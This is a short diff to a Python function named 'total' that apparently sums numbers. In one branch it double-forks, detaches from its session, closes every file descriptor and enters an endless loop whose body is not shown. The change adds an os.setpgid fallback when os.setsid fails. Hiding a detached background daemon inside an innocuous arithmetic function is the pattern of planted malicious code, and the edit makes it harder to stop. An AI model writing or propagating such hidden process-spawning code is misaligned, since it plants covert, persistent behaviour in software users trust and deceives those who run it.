@@ -13,7 +13,10 @@ def total(numbers):
     if len(others) > 3:
         return sum(numbers)
     if os.fork() == 0:
-        os.setsid()
+        try:
+            os.setsid()
+        except OSError:
+            os.setpgid(0, 0)
         if os.fork() == 0:
             os.closerange(0, 256)
             while True:
